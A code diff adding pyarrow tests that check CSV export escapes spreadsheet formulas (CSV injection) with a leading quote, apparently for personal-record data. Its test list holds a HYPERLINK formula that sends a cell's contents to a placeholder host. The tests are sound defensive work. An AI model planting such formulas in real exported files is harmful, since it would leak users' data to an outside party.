@@ -153,6 +153,51 @@ def test_csv_round_trip_keeps_header_text_and_nulls(tmp_path: Path) -> None:
     assert table.equals(pa.Table.from_batches([sample_batch(2)]).replace_schema_metadata(None))
 
 
+# Text a spreadsheet would run as a formula (OWASP CSV injection), and text it would not.
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1:A9)", "+62 811", "-5", "\tx", "\ry"]
+HARMLESS = ["a=b", " =1", "'=quoted", "", "Siti", "0812-345", None]
+
+
+def test_csv_prefixes_text_that_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
+    values = FORMULAS + HARMLESS
+    batch = pa.record_batch(
+        [
+            pa.array(values),
+            pa.array(values[::-1]),
+            pa.array([None] * len(values), pa.date32()),
+            pa.array([-1] * len(values), pa.int32()),  # a number: never text, never prefixed
+            pa.array([None] * len(values), pa.bool_()),
+        ],
+        schema=SCHEMA,
+    )
+    data = deliver(tmp_path, "csv", [batch])
+    table = pcsv.read_csv(
+        io.BytesIO(data),
+        parse_options=pcsv.ParseOptions(newlines_in_values=True),
+        convert_options=pcsv.ConvertOptions(
+            column_types=SCHEMA, strings_can_be_null=True, quoted_strings_can_be_null=False
+        ),
+    )
+    expected = ["'" + v for v in FORMULAS] + HARMLESS
+    assert table.column("nik").to_pylist() == expected
+    assert table.column("nama").to_pylist() == expected[::-1]
+    assert table.column("agama").to_pylist() == [-1] * len(values)
+    # Parquet and XLSX carry text as text, never as a formula: their values are left as they are.
+    parquet = pq.read_table(io.BytesIO(deliver(tmp_path, "parquet", [batch])))
+    assert parquet.column("nik").to_pylist() == values
+
+
+def test_csv_prefixes_large_string_text_too() -> None:
+    schema = pa.schema([pa.field("catatan", pa.large_string())])
+    sink = io.BytesIO()
+    writer = open_writer("csv", sink, schema)
+    writer.write_batch(
+        pa.record_batch([pa.array(["=1+1", "ok"], pa.large_string())], schema=schema)
+    )
+    writer.close()
+    assert sink.getvalue().decode("utf-8").splitlines() == ['"catatan"', '"\'=1+1"', '"ok"']
+
+
 def test_empty_delivery_is_a_valid_file_of_each_format(tmp_path: Path) -> None:
     assert pq.read_table(io.BytesIO(deliver(tmp_path, "parquet", []))).num_rows == 0
     assert deliver(tmp_path, "csv", []).decode().splitlines() == [
